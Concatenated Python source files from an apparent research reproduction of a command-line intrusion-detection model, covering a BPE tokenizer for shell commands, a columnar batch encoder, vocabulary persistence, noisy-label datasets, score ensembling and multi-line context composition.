    lengths: np.ndarray
    char_lengths: np.ndarray
    pad_id: int

    def __len__(self) -> int:
        return int(self.ids.shape[0])

    @property
    def width(self) -> int:
        """Padded token width ``W`` of the id matrix."""
        return int(self.ids.shape[1])

    def rows(self, selector) -> "TokenBatch":
        """A row-subset batch (*selector*: slice or integer array).

        Slices are views into the parent arrays (zero-copy — the shape
        worker processes score shared-memory frames through); fancy
        indexing copies, as numpy always does.
        """
        return TokenBatch(
            ids=self.ids[selector],
            lengths=self.lengths[selector],
            char_lengths=self.char_lengths[selector],
            pad_id=self.pad_id,
        )

    @classmethod
    def from_arrays(
        cls,
        token_ids: np.ndarray,
        lengths: np.ndarray,
        *,
        pad_id: int = 0,
        char_lengths: np.ndarray | None = None,
    ) -> "TokenBatch":
        """Wrap raw ``(token_ids, lengths)`` arrays as a batch.

        Without *char_lengths* the token lengths stand in as the
        bucketing key — scoring is still exact, but bitwise equality
        with the per-line path is only guaranteed when the original
        character lengths are supplied.
        """
        ids = np.ascontiguousarray(token_ids, dtype=np.int64)
        if ids.ndim != 2:
            raise ValueError(f"token_ids must be 2-D (got shape {ids.shape})")
        lengths = np.ascontiguousarray(lengths, dtype=np.int64)
        if lengths.shape != (ids.shape[0],):
            raise ValueError(
                f"lengths shape {lengths.shape} does not match {ids.shape[0]} rows"
            )
        if len(lengths) and (lengths.min() < 0 or lengths.max() > ids.shape[1]):
            raise ValueError("lengths must lie in [0, token width]")
        if char_lengths is None:
            char_lengths = lengths.copy()
        else:
            char_lengths = np.ascontiguousarray(char_lengths, dtype=np.int64)
            if char_lengths.shape != lengths.shape:
                raise ValueError(
                    f"char_lengths shape {char_lengths.shape} does not match "
                    f"{ids.shape[0]} rows"
                )
        return cls(ids=ids, lengths=lengths, char_lengths=char_lengths, pad_id=int(pad_id))


class ColumnarTokenizer:
    """Precompiled batch tokenizer over a trained :class:`BPETokenizer`.

    Per distinct pre-token (word), the greedy BPE segmentation and the
    token → id lookup run once and are cached as an int64 array; a
    batch encode is then array concatenation + one padded fill, with no
    per-token Python work on the hot path.

    Parameters
    ----------
    tokenizer:
        The trained tokenizer whose ``encode`` semantics this must
        reproduce exactly.
    max_length:
        Token budget per line including specials (the model's
        ``max_position``) — rows are truncated exactly as
        ``BPETokenizer.encode(..., max_length=max_length)`` truncates.
    """

    def __init__(self, tokenizer: BPETokenizer, max_length: int):
        vocab = tokenizer.vocab
        if vocab is None:
            raise ValueError("tokenizer must be trained")
        if max_length < 2:
            raise ValueError("max_length must be >= 2 (room for [CLS] and [SEP])")
        self.tokenizer = tokenizer
        self.max_length = int(max_length)
        self.pad_id = vocab.pad_id
        self._cls_id = vocab.id_of(tokenizer.special.cls)
        self._sep_id = vocab.id_of(tokenizer.special.sep)
        self._word_ids: dict[str, np.ndarray] = {}

    def _ids_of_word(self, word: str) -> np.ndarray:
        ids = self._word_ids.get(word)
        if ids is None:
            vocab = self.tokenizer.vocab
            assert vocab is not None
            ids = np.array(
                [vocab.id_of(token) for token in self.tokenizer.segment_word(word)],
                dtype=np.int64,
            )
            ids.setflags(write=False)
            if len(self._word_ids) < _WORD_CACHE_LIMIT:
                self._word_ids[word] = ids
        return ids

    def encode(self, lines: Sequence[str]) -> TokenBatch:
        """Tokenize *lines* into one padded columnar batch."""
        n = len(lines)
        budget = self.max_length - 2
        bodies: list[np.ndarray | None] = [None] * n
        lengths = np.full(n, 2, dtype=np.int64)  # every row carries [CLS]+[SEP]
        char_lengths = np.empty(n, dtype=np.int64)
        pretokenize = self.tokenizer._pretokenize
        for index, line in enumerate(lines):
            char_lengths[index] = len(line)
            words = pretokenize(line)
            if not words:
                continue
            if len(words) == 1:
                body = self._ids_of_word(words[0])
            else:
                body = np.concatenate([self._ids_of_word(word) for word in words])
            if body.shape[0] > budget:
                body = body[:budget]
            bodies[index] = body
            lengths[index] += body.shape[0]
        width = int(lengths.max()) if n else 0
        ids = np.full((n, width), self.pad_id, dtype=np.int64)
        for index, body in enumerate(bodies):
            ids[index, 0] = self._cls_id
            if body is not None:
                ids[index, 1 : 1 + body.shape[0]] = body
            ids[index, lengths[index] - 1] = self._sep_id
        return TokenBatch(
            ids=ids, lengths=lengths, char_lengths=char_lengths, pad_id=self.pad_id
        )
