"""Byte-pair-encoding tokenizer trained on command lines (Section II-B).

The implementation follows Sennrich et al. (2016): pre-tokenize on
whitespace, represent each pre-token as a character sequence with a
word-boundary marker, and repeatedly merge the most frequent adjacent
symbol pair until the requested number of merges is reached.  Encoding
replays the learned merges in rank order.

Command lines differ from natural language in that punctuation carries
syntax (``|``, ``>``, ``;``), so no punctuation stripping is performed:
every character of the line is preserved, and BPE alone decides the
units — exactly the paper's setup.
"""

from __future__ import annotations

import heapq
from collections import Counter, defaultdict
from collections.abc import Iterable, Sequence

from repro.errors import NotFittedError, TokenizerError
from repro.tokenizer.special import WORD_BOUNDARY, SpecialTokens
from repro.tokenizer.vocab import Vocab


class Encoding:
    """Result of tokenizing one command line.

    Attributes
    ----------
    ids:
        Token ids, including special tokens when requested.
    tokens:
        Token strings aligned with ``ids``.
    """

    __slots__ = ("ids", "tokens")

    def __init__(self, ids: list[int], tokens: list[str]):
        self.ids = ids
        self.tokens = tokens

    def __len__(self) -> int:
        return len(self.ids)

    def __repr__(self) -> str:
        return f"Encoding(ids={self.ids!r})"


class BPETokenizer:
    """Trainable BPE tokenizer with BERT-style special-token handling.

    Parameters
    ----------
    vocab_size:
        Upper bound on total vocabulary size (special tokens + single
        characters + merged symbols).  The paper uses 50 000; scaled-down
        experiments use a few thousand.
    min_pair_frequency:
        Pairs occurring fewer times than this are never merged.
    lowercase:
        Optionally lowercase input (off by default — case matters in
        shell commands).

    Example
    -------
    >>> tok = BPETokenizer(vocab_size=300)
    >>> tok.train(["ls -la /tmp", "ls /home"] * 10)
    >>> tok.decode(tok.encode("ls -la").ids)
    'ls -la'
    """

    def __init__(
        self,
        vocab_size: int = 4096,
        min_pair_frequency: int = 2,
        lowercase: bool = False,
        special: SpecialTokens | None = None,
    ):
        if vocab_size < 16:
            raise TokenizerError("vocab_size must be at least 16")
        if min_pair_frequency < 1:
            raise TokenizerError("min_pair_frequency must be >= 1")
        self.vocab_size = vocab_size
        self.min_pair_frequency = min_pair_frequency
        self.lowercase = lowercase
        self.special = special or SpecialTokens()
        self.vocab: Vocab | None = None
        self._merges: dict[tuple[str, str], int] = {}
        self._encode_cache: dict[str, tuple[str, ...]] = {}

    # ------------------------------------------------------------------
    # Training
    # ------------------------------------------------------------------

    def train(self, corpus: Iterable[str]) -> "BPETokenizer":
        """Learn merges from *corpus* and build the vocabulary."""
        word_freqs = self._count_pretokens(corpus)
        if not word_freqs:
            raise TokenizerError("cannot train BPE on an empty corpus")
        vocab = Vocab(special=self.special)
        alphabet = sorted({ch for word in word_freqs for ch in word})
        char_budget = self.vocab_size - len(vocab)
        if len(alphabet) > char_budget:
            # vocab_size is a hard contract: when the corpus alphabet
            # alone would blow it, keep the most frequent characters
            # (ties lexicographic) and let the rest fall back to [UNK]
            char_freqs: Counter[str] = Counter()
            for word, freq in word_freqs.items():
                for ch in word:
                    char_freqs[ch] += freq
            keep = set(
                sorted(alphabet, key=lambda ch: (-char_freqs[ch], ch))[:char_budget]
            )
            alphabet = [ch for ch in alphabet if ch in keep]
        for ch in alphabet:
            vocab.add(ch)

        # Words as mutable symbol sequences, weighted by frequency.
        words: list[list[str]] = [list(word) for word in word_freqs]
        freqs: list[int] = list(word_freqs.values())
        pair_counts, pair_to_words = self._initial_pair_stats(words, freqs)
        heap: list[tuple[int, tuple[str, str]]] = [
            (-count, pair) for pair, count in pair_counts.items()
        ]
        heapq.heapify(heap)

        merges: list[tuple[str, str]] = []
        budget = self.vocab_size - len(vocab)
        while budget > 0 and heap:
            neg_count, pair = heapq.heappop(heap)
            current = pair_counts.get(pair, 0)
            if current != -neg_count:
                continue  # stale heap entry
            if current < self.min_pair_frequency:
                break
            merged = pair[0] + pair[1]
            merges.append(pair)
            vocab.add(merged)
            budget -= 1
            touched = self._apply_merge(pair, merged, words, freqs, pair_counts, pair_to_words)
            for changed_pair in touched:
                count = pair_counts.get(changed_pair, 0)
                if count > 0:
                    heapq.heappush(heap, (-count, changed_pair))
        self._merges = {pair: rank for rank, pair in enumerate(merges)}
        self.vocab = vocab
        self._encode_cache.clear()
        return self

    def _count_pretokens(self, corpus: Iterable[str]) -> Counter[tuple[str, ...]]:
        counts: Counter[tuple[str, ...]] = Counter()
        for line in corpus:
            for word in self._pretokenize(line):
                counts[tuple(word)] += 1
        return counts

    def _pretokenize(self, line: str) -> list[str]:
        if self.lowercase:
            line = line.lower()
        return [WORD_BOUNDARY + part for part in line.split()]

    @staticmethod
    def _initial_pair_stats(
        words: list[list[str]], freqs: list[int]
    ) -> tuple[dict[tuple[str, str], int], dict[tuple[str, str], set[int]]]:
        pair_counts: dict[tuple[str, str], int] = defaultdict(int)
        pair_to_words: dict[tuple[str, str], set[int]] = defaultdict(set)
        for index, (word, freq) in enumerate(zip(words, freqs)):
            for left, right in zip(word, word[1:]):
                pair_counts[(left, right)] += freq
                pair_to_words[(left, right)].add(index)
        return pair_counts, pair_to_words

    @staticmethod
    def _apply_merge(
        pair: tuple[str, str],
        merged: str,
        words: list[list[str]],
        freqs: list[int],
        pair_counts: dict[tuple[str, str], int],
        pair_to_words: dict[tuple[str, str], set[int]],
    ) -> set[tuple[str, str]]:
        """Merge *pair* in every word containing it; update pair stats."""
        touched: set[tuple[str, str]] = set()
        affected = pair_to_words.pop(pair, set())
        pair_counts.pop(pair, None)
        for index in affected:
            word = words[index]
            freq = freqs[index]
            i = 0
            new_word: list[str] = []
            while i < len(word):
                if i + 1 < len(word) and word[i] == pair[0] and word[i + 1] == pair[1]:
                    # decrement neighbours of the consumed pair
                    if new_word:
                        old_left = (new_word[-1], pair[0])
                        pair_counts[old_left] = pair_counts.get(old_left, 0) - freq
                        touched.add(old_left)
                    if i + 2 < len(word):
                        old_right = (pair[1], word[i + 2])
                        pair_counts[old_right] = pair_counts.get(old_right, 0) - freq
                        touched.add(old_right)
                    new_word.append(merged)
                    i += 2
                else:
                    new_word.append(word[i])
                    i += 1
            # increment pairs adjacent to each merged symbol
            for left, right in zip(new_word, new_word[1:]):
                if merged in (left, right):
                    pair_counts[(left, right)] = pair_counts.get((left, right), 0) + freq
                    touched.add((left, right))
                pair_to_words[(left, right)].add(index)
            words[index] = new_word
        return touched

    # ------------------------------------------------------------------
    # Encoding / decoding
    # ------------------------------------------------------------------

    @property
    def is_trained(self) -> bool:
        """Whether :meth:`train` (or deserialization) has run."""
        return self.vocab is not None

    def _require_vocab(self) -> Vocab:
        if self.vocab is None:
            raise NotFittedError("tokenizer has not been trained; call train() first")
        return self.vocab

    def segment_word(self, word: str) -> tuple[str, ...]:
        """Apply learned merges to one pre-token (boundary marker included)."""
        cached = self._encode_cache.get(word)
        if cached is not None:
            return cached
        symbols = list(word)
        while len(symbols) > 1:
            best_rank = None
            best_index = -1
            for i, pair in enumerate(zip(symbols, symbols[1:])):
                rank = self._merges.get(pair)
                if rank is not None and (best_rank is None or rank < best_rank):
                    best_rank = rank
                    best_index = i
            if best_rank is None:
                break
            symbols[best_index : best_index + 2] = [symbols[best_index] + symbols[best_index + 1]]
        result = tuple(symbols)
        if len(self._encode_cache) < 1_000_000:
            self._encode_cache[word] = result
        return result

    def encode(
        self,
        line: str,
        add_special_tokens: bool = True,
        max_length: int | None = None,
    ) -> Encoding:
        """Tokenize *line* into an :class:`Encoding`.

        When ``max_length`` is given the sequence (including specials) is
        truncated to that many tokens, mirroring the paper's trimming of
        over-long command lines.
        """
        vocab = self._require_vocab()
        tokens: list[str] = []
        for word in self._pretokenize(line):
            tokens.extend(self.segment_word(word))
        if add_special_tokens:
            budget = None if max_length is None else max(max_length - 2, 0)
            if budget is not None:
                tokens = tokens[:budget]
            tokens = [self.special.cls, *tokens, self.special.sep]
        elif max_length is not None:
            tokens = tokens[:max_length]
        ids = [vocab.id_of(token) for token in tokens]
        return Encoding(ids=ids, tokens=tokens)

    def encode_batch(
        self,
        lines: Sequence[str],
        add_special_tokens: bool = True,
        max_length: int | None = None,
    ) -> list[Encoding]:
        """Encode every line in *lines*."""
        return [self.encode(line, add_special_tokens, max_length) for line in lines]

    def decode(self, ids: Sequence[int], skip_special_tokens: bool = True) -> str:
        """Reconstruct text from token *ids* (inverse of :meth:`encode`)."""
        vocab = self._require_vocab()
        pieces: list[str] = []
        for index in ids:
            token = vocab.token_of(index)
            if skip_special_tokens and token in self.special.as_list():
                continue
            pieces.append(token)
        text = "".join(pieces)
        return text.replace(WORD_BOUNDARY, " ").strip()

    def token_count(self, line: str) -> int:
        """Number of non-special tokens *line* encodes to."""
        return len(self.encode(line, add_special_tokens=False))

    @property
    def merges(self) -> list[tuple[str, str]]:
        """Learned merges in rank order."""
        ordered = sorted(self._merges.items(), key=lambda item: item[1])
        return [pair for pair, _ in ordered]
