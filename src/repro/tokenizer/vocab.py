"""Token ↔ id vocabulary for the BPE tokenizer."""

from __future__ import annotations

from collections.abc import Iterable

from repro.errors import TokenizerError
from repro.tokenizer.special import SpecialTokens


class Vocab:
    """A bidirectional token ↔ integer-id mapping with special tokens.

    Special tokens always occupy the lowest ids, in the order returned by
    :meth:`SpecialTokens.as_list`, so ``pad_id == 0`` regardless of the
    learned vocabulary.
    """

    def __init__(self, tokens: Iterable[str] = (), special: SpecialTokens | None = None):
        self.special = special or SpecialTokens()
        self._token_to_id: dict[str, int] = {}
        self._id_to_token: list[str] = []
        for token in self.special.as_list():
            self._add(token)
        for token in tokens:
            self.add(token)

    def _add(self, token: str) -> int:
        index = len(self._id_to_token)
        self._token_to_id[token] = index
        self._id_to_token.append(token)
        return index

    def add(self, token: str) -> int:
        """Add *token* if absent; return its id."""
        existing = self._token_to_id.get(token)
        if existing is not None:
            return existing
        return self._add(token)

    def id_of(self, token: str) -> int:
        """Id of *token*, falling back to the ``[UNK]`` id."""
        return self._token_to_id.get(token, self.unk_id)

    def token_of(self, index: int) -> str:
        """Token text for *index*.

        Raises
        ------
        TokenizerError
            If *index* is outside the vocabulary.
        """
        if not 0 <= index < len(self._id_to_token):
            raise TokenizerError(f"token id {index} outside vocabulary of size {len(self)}")
        return self._id_to_token[index]

    def __contains__(self, token: str) -> bool:
        return token in self._token_to_id

    def __len__(self) -> int:
        return len(self._id_to_token)

    @property
    def pad_id(self) -> int:
        """Id of the padding token (always 0)."""
        return self._token_to_id[self.special.pad]

    @property
    def unk_id(self) -> int:
        """Id of the unknown token."""
        return self._token_to_id[self.special.unk]

    @property
    def cls_id(self) -> int:
        """Id of the ``[CLS]`` token."""
        return self._token_to_id[self.special.cls]

    @property
    def sep_id(self) -> int:
        """Id of the ``[SEP]`` token."""
        return self._token_to_id[self.special.sep]

    @property
    def mask_id(self) -> int:
        """Id of the ``[MASK]`` token."""
        return self._token_to_id[self.special.mask]

    @property
    def special_ids(self) -> frozenset[int]:
        """Ids of all special tokens."""
        return frozenset(self._token_to_id[t] for t in self.special.as_list())

    def tokens(self) -> list[str]:
        """All tokens in id order (including specials)."""
        return list(self._id_to_token)
