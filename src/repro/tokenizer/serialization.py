"""Save/load support for the BPE tokenizer (JSON on disk)."""

from __future__ import annotations

import json
from pathlib import Path

from repro.errors import CheckpointError
from repro.tokenizer.bpe import BPETokenizer
from repro.tokenizer.special import SpecialTokens
from repro.tokenizer.vocab import Vocab

_FORMAT_VERSION = 1


def save_tokenizer(tokenizer: BPETokenizer, path: str | Path) -> None:
    """Serialize *tokenizer* (vocabulary + merges + settings) to *path*."""
    if tokenizer.vocab is None:
        raise CheckpointError("cannot save an untrained tokenizer")
    payload = {
        "format_version": _FORMAT_VERSION,
        "vocab_size": tokenizer.vocab_size,
        "min_pair_frequency": tokenizer.min_pair_frequency,
        "lowercase": tokenizer.lowercase,
        "special": {
            "pad": tokenizer.special.pad,
            "unk": tokenizer.special.unk,
            "cls": tokenizer.special.cls,
            "sep": tokenizer.special.sep,
            "mask": tokenizer.special.mask,
        },
        "tokens": tokenizer.vocab.tokens(),
        "merges": [[a, b] for a, b in tokenizer.merges],
    }
    Path(path).write_text(json.dumps(payload, ensure_ascii=False))


def load_tokenizer(path: str | Path) -> BPETokenizer:
    """Restore a tokenizer previously written by :func:`save_tokenizer`."""
    try:
        payload = json.loads(Path(path).read_text())
    except (OSError, json.JSONDecodeError) as exc:
        raise CheckpointError(f"cannot load tokenizer from {path}: {exc}") from exc
    if payload.get("format_version") != _FORMAT_VERSION:
        raise CheckpointError(f"unsupported tokenizer format: {payload.get('format_version')!r}")
    special = SpecialTokens(**payload["special"])
    tokenizer = BPETokenizer(
        vocab_size=payload["vocab_size"],
        min_pair_frequency=payload["min_pair_frequency"],
        lowercase=payload["lowercase"],
        special=special,
    )
    specials = set(special.as_list())
    learned = [t for t in payload["tokens"] if t not in specials]
    tokenizer.vocab = Vocab(tokens=learned, special=special)
    tokenizer._merges = {(a, b): rank for rank, (a, b) in enumerate(payload["merges"])}
    return tokenizer
