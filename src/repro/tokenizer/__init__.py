"""BPE tokenization for command lines (Section II-B).

Public surface:

- :class:`BPETokenizer` — trainable byte-pair encoder with BERT-style
  special tokens and truncation.
- :class:`Vocab` / :class:`SpecialTokens` — vocabulary plumbing.
- :func:`save_tokenizer` / :func:`load_tokenizer` — JSON persistence.
"""

from repro.tokenizer.bpe import BPETokenizer, Encoding
from repro.tokenizer.serialization import load_tokenizer, save_tokenizer
from repro.tokenizer.special import WORD_BOUNDARY, SpecialTokens
from repro.tokenizer.vocab import Vocab

__all__ = [
    "BPETokenizer",
    "Encoding",
    "SpecialTokens",
    "Vocab",
    "WORD_BOUNDARY",
    "load_tokenizer",
    "save_tokenizer",
]
