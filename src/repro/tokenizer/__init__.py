"""BPE tokenization for command lines (Section II-B).

Public surface:

- :class:`BPETokenizer` — trainable byte-pair encoder with BERT-style
  special tokens and truncation.
- :class:`ColumnarTokenizer` / :class:`TokenBatch` — precompiled
  batch-first encoder producing padded columnar id/length arrays
  (bitwise-identical per-row ids to :meth:`BPETokenizer.encode`).
- :class:`Vocab` / :class:`SpecialTokens` — vocabulary plumbing.
- :func:`save_tokenizer` / :func:`load_tokenizer` — JSON persistence.
"""

from repro.tokenizer.bpe import BPETokenizer, Encoding
from repro.tokenizer.columnar import ColumnarTokenizer, TokenBatch
from repro.tokenizer.serialization import load_tokenizer, save_tokenizer
from repro.tokenizer.special import WORD_BOUNDARY, SpecialTokens
from repro.tokenizer.vocab import Vocab

__all__ = [
    "BPETokenizer",
    "ColumnarTokenizer",
    "Encoding",
    "SpecialTokens",
    "TokenBatch",
    "Vocab",
    "WORD_BOUNDARY",
    "load_tokenizer",
    "save_tokenizer",
]
