"""Supervised adaptation of the command-line LM (Section IV).

Public surface:

- :class:`ClassificationTuner` — probing head on ``[CLS]`` (Sec. IV-B).
- :class:`MultiLineClassificationTuner` / :class:`MultiLineComposer` —
  context-window classification (Sec. IV-C).
- :class:`ReconstructionTuner` — Eq. 2 alternating optimisation (Sec. IV-A).
- :class:`RetrievalDetector` — modified malicious-kNN (Sec. IV-D);
  :class:`MajorityVoteKNN` — the vanilla baseline it improves on.
- :class:`ScoreEnsemble` — future-work score fusion (Sec. V-C).
- :class:`LabeledDataset` / :func:`label_with_ids` — noisy supervision.
"""

from repro.tuning.base import IntrusionScorer
from repro.tuning.classification import ClassificationTuner
from repro.tuning.ensemble import ScoreEnsemble, rank_normalize
from repro.tuning.labels import LabeledDataset, label_with_ids
from repro.tuning.multiline import (
    SEPARATOR,
    ComposedSample,
    IncrementalComposer,
    MultiLineClassificationTuner,
    MultiLineComposer,
    compose_window,
)
from repro.tuning.reconstruction import ReconstructionTuner
from repro.tuning.retrieval import MajorityVoteKNN, RetrievalDetector

__all__ = [
    "ClassificationTuner",
    "ComposedSample",
    "IncrementalComposer",
    "IntrusionScorer",
    "LabeledDataset",
    "MajorityVoteKNN",
    "MultiLineClassificationTuner",
    "MultiLineComposer",
    "RetrievalDetector",
    "ReconstructionTuner",
    "SEPARATOR",
    "ScoreEnsemble",
    "compose_window",
    "label_with_ids",
    "rank_normalize",
]
