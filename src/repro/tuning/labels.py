"""Supervised datasets built from noisy commercial-IDS labels (Section IV).

``LabeledDataset`` pairs command lines with binary labels obtained by
querying the supervision source; it is what all four adaptation methods
consume.  The labels are *noisy by construction*: out-of-box intrusions
are labeled benign because the commercial IDS cannot see them.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass

import numpy as np

from repro.errors import DataError
from repro.ids.commercial import CommercialIDS
from repro.loggen.dataset import CommandDataset


@dataclass
class LabeledDataset:
    """Command lines with (noisy) binary intrusion labels.

    Attributes
    ----------
    lines:
        The command lines.
    labels:
        1 = labeled intrusion-related by the supervision source.
    """

    lines: list[str]
    labels: np.ndarray

    def __post_init__(self):
        self.labels = np.asarray(self.labels, dtype=np.int64)
        if len(self.lines) != len(self.labels):
            raise DataError(
                f"lines ({len(self.lines)}) and labels ({len(self.labels)}) length mismatch"
            )
        if self.labels.size and not np.isin(self.labels, (0, 1)).all():
            raise DataError("labels must be binary (0/1)")

    def __len__(self) -> int:
        return len(self.lines)

    @property
    def n_positive(self) -> int:
        """Number of positive (intrusion-labeled) samples."""
        return int(self.labels.sum())

    def positives(self) -> "LabeledDataset":
        """The positive subset."""
        mask = self.labels == 1
        return LabeledDataset([l for l, keep in zip(self.lines, mask) if keep], self.labels[mask])

    def subsample(self, n: int, rng: np.random.Generator, keep_all_positives: bool = True) -> "LabeledDataset":
        """A subset of *n* samples, by default keeping every positive.

        Fine-tuning does not need the full corpus; the paper labels "a
        number of command lines".  Stratified subsampling keeps the rare
        positives while bounding compute.
        """
        if n >= len(self):
            return self
        indices = np.arange(len(self))
        if keep_all_positives:
            positive = indices[self.labels == 1]
            negative = indices[self.labels == 0]
            n_negative = max(n - positive.size, 0)
            chosen_negative = rng.choice(negative, size=min(n_negative, negative.size), replace=False)
            chosen = np.sort(np.concatenate([positive, chosen_negative]))
        else:
            chosen = np.sort(rng.choice(indices, size=n, replace=False))
        return LabeledDataset([self.lines[i] for i in chosen], self.labels[chosen])


def label_with_ids(
    dataset: CommandDataset | Sequence[str],
    ids: CommercialIDS,
) -> LabeledDataset:
    """Query the commercial IDS to label a dataset (black-box supervision)."""
    lines = dataset.lines() if isinstance(dataset, CommandDataset) else list(dataset)
    return LabeledDataset(lines, ids.label(lines))
