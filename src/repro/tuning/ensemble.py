"""Score ensembling across detection methods.

Section V-C closes with: "these methods complement each other, and an
ensemble of all these methods can further boost the out-of-box intrusion
detection performance, which should be explored in future work."  This
module implements that future-work suggestion: rank-normalised score
fusion over any set of fitted :class:`IntrusionScorer` objects.
"""

from __future__ import annotations

from collections.abc import Sequence

import numpy as np

from repro.tuning.base import IntrusionScorer


def rank_normalize(scores: np.ndarray) -> np.ndarray:
    """Map scores to (0, 1] by fractional rank (ties share the mean rank).

    Rank normalisation makes heterogeneous score scales (probabilities,
    reconstruction errors, similarities) commensurable before fusion.
    """
    scores = np.asarray(scores, dtype=np.float64)
    if scores.size == 0:
        return scores.copy()
    order = np.argsort(scores, kind="stable")
    ranks = np.empty_like(order, dtype=np.float64)
    ranks[order] = np.arange(1, scores.size + 1)
    # average ranks over ties for determinism
    unique, inverse = np.unique(scores, return_inverse=True)
    sums = np.zeros(unique.size)
    counts = np.zeros(unique.size)
    np.add.at(sums, inverse, ranks)
    np.add.at(counts, inverse, 1.0)
    return (sums / counts)[inverse] / scores.size


class ScoreEnsemble(IntrusionScorer):
    """Fuse several fitted scorers by rank-normalised aggregation.

    Parameters
    ----------
    scorers:
        Already-fitted member methods.
    weights:
        Optional per-member weights (default: uniform).
    aggregation:
        ``"mean"`` (robust default) or ``"max"`` (recall-oriented).
    """

    method_name = "ensemble"

    def __init__(
        self,
        scorers: Sequence[IntrusionScorer],
        weights: Sequence[float] | None = None,
        aggregation: str = "mean",
    ):
        if not scorers:
            raise ValueError("ensemble needs at least one member")
        if aggregation not in ("mean", "max"):
            raise ValueError("aggregation must be 'mean' or 'max'")
        if weights is not None and len(weights) != len(scorers):
            raise ValueError("weights must align with scorers")
        self.scorers = list(scorers)
        self.weights = np.asarray(weights, dtype=np.float64) if weights is not None else None
        self.aggregation = aggregation
        self._fitted = True  # members are fitted by contract

    def fit(self, lines: Sequence[str], labels: np.ndarray) -> "ScoreEnsemble":
        """Fit every member on the same supervision."""
        for scorer in self.scorers:
            scorer.fit(lines, labels)
        self._fitted = True
        return self

    def score(self, lines: Sequence[str]) -> np.ndarray:
        self._check_fitted()
        normalized = np.stack([rank_normalize(s.score(lines)) for s in self.scorers])
        return self.aggregate(normalized)

    def aggregate(self, normalized: np.ndarray) -> np.ndarray:
        """Fuse a ``(n_members, n_samples)`` matrix of normalised scores."""
        if self.aggregation == "max":
            return normalized.max(axis=0)
        if self.weights is not None:
            weights = self.weights / self.weights.sum()
            return (normalized * weights[:, None]).sum(axis=0)
        return normalized.mean(axis=0)
