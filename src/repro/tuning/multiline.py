"""Multi-line classification (Section IV-C): context-aware tuning.

"For classifying a particular command-line operation, several command
lines in the most recent past from the same user are additionally served
for reference, if their execution time is not too long ago.  These
command lines are concatenated with a shell command separator ';'."

:class:`MultiLineComposer` builds those context windows from a
:class:`~repro.loggen.dataset.CommandDataset`;
:class:`MultiLineClassificationTuner` is the probing classifier applied
to the composed inputs (the paper uses three temporally contiguous
lines).
"""

from __future__ import annotations

from collections import deque
from collections.abc import Hashable, Sequence
from dataclasses import dataclass
from datetime import timedelta
from typing import Any

import numpy as np

from repro.lm.encoder_api import CommandEncoder
from repro.loggen.dataset import CommandDataset
from repro.tuning.classification import ClassificationTuner

#: Separator used to join context lines — "a shell command separator ';'".
SEPARATOR = " ; "


def compose_window(
    entries: Sequence[tuple[Any, str]], window: int, max_gap: Any
) -> tuple[str, int] | None:
    """Compose the newest of *entries* with its recent same-key context.

    *entries* is an oldest-first sequence of ``(timestamp, line)`` pairs
    for one user/host; the last entry is the line being classified.  The
    most recent ``window - 1`` earlier lines whose age relative to the
    classified line does not exceed *max_gap* become its context, and
    the result is joined with :data:`SEPARATOR` (classified line last).

    Timestamps only need to subtract into something comparable with
    *max_gap* — :class:`~datetime.datetime` with a
    :class:`~datetime.timedelta` gap (the batch tuner) and float seconds
    with a float gap (the streaming session aggregator) both work, so
    batch and serving composition share this one implementation.

    Returns ``(text, n_context)``, or ``None`` for empty *entries*.
    """
    if not entries:
        return None
    recent = list(entries[-window:])
    now, line = recent[-1]
    context = [past_line for stamp, past_line in recent[:-1] if now - stamp <= max_gap]
    return SEPARATOR.join([*context, line]), len(context)


class IncrementalComposer:
    """Streaming counterpart of :class:`MultiLineComposer`.

    Feed one ``(key, timestamp, line)`` at a time and get back exactly
    the composition the batch composer would produce for that record —
    :meth:`MultiLineComposer.compose` delegates here, so the equivalence
    holds by construction.  Per-key history is bounded at ``window``
    entries; :meth:`discard` releases a key's state entirely, for
    callers that evict idle keys.  (The serving
    :class:`~repro.serving.sessions.SessionAggregator` keeps its own
    per-host windows and shares only :func:`compose_window`, so its
    composition matches this class exactly.)
    """

    def __init__(self, window: int = 3, max_gap: Any = timedelta(minutes=3)):
        if window < 1:
            raise ValueError("window must be >= 1")
        self.window = window
        self.max_gap = max_gap
        self._history: dict[Hashable, deque] = {}

    def record(self, key: Hashable, timestamp: Any, line: str) -> None:
        """Append one observed line to *key*'s rolling history."""
        past = self._history.get(key)
        if past is None:
            past = self._history[key] = deque(maxlen=self.window)
        past.append((timestamp, line))

    def compose_last(self, key: Hashable) -> tuple[str, int] | None:
        """Composition for *key*'s newest recorded line, or ``None``."""
        past = self._history.get(key)
        if not past:
            return None
        return compose_window(list(past), self.window, self.max_gap)

    def push(self, key: Hashable, timestamp: Any, line: str) -> tuple[str, int]:
        """Record one line and return its composition in one step."""
        self.record(key, timestamp, line)
        composed = self.compose_last(key)
        assert composed is not None  # the history now holds this line
        return composed

    def discard(self, key: Hashable) -> None:
        """Drop all history for *key* (idle-host eviction)."""
        self._history.pop(key, None)


@dataclass(frozen=True)
class ComposedSample:
    """A context-augmented input for multi-line classification.

    Attributes
    ----------
    text:
        Up to ``window`` lines of the same user joined with ``;`` —
        oldest first, the line being classified last.
    record_index:
        Index of the classified (last) line in the source dataset.
    n_context:
        Number of context lines actually available (0 ≤ n < window).
    """

    text: str
    record_index: int
    n_context: int


class MultiLineComposer:
    """Build per-record context windows from user history.

    Parameters
    ----------
    window:
        Total lines per composed input ("three temporally contiguous
        command lines" in the paper's experiments).
    max_gap:
        Maximum age of a context line relative to the classified line
        ("if their execution time is not too long ago").  The default is
        deliberately tight: a generous gap lets a user's earlier attack
        session leak into the context of their later benign commands,
        which poisons composed labels.
    """

    def __init__(self, window: int = 3, max_gap: timedelta = timedelta(minutes=3)):
        if window < 1:
            raise ValueError("window must be >= 1")
        self.window = window
        self.max_gap = max_gap

    def compose(self, dataset: CommandDataset) -> list[ComposedSample]:
        """One :class:`ComposedSample` per record, in dataset order."""
        stream = IncrementalComposer(self.window, self.max_gap)
        samples: list[ComposedSample] = []
        for index, record in enumerate(dataset):
            text, n_context = stream.push(record.user, record.timestamp, record.line)
            samples.append(ComposedSample(text=text, record_index=index, n_context=n_context))
        return samples

    def compose_lines(self, dataset: CommandDataset) -> list[str]:
        """Just the composed texts, aligned with the dataset."""
        return [sample.text for sample in self.compose(dataset)]


class MultiLineClassificationTuner(ClassificationTuner):
    """Probing classifier over composed multi-line inputs.

    Identical head and recipe to single-line classification; only the
    input representation changes.  ``fit_dataset`` / ``score_dataset``
    accept :class:`CommandDataset` objects and run composition
    internally.
    """

    method_name = "classification_multi"

    def __init__(
        self,
        encoder: CommandEncoder,
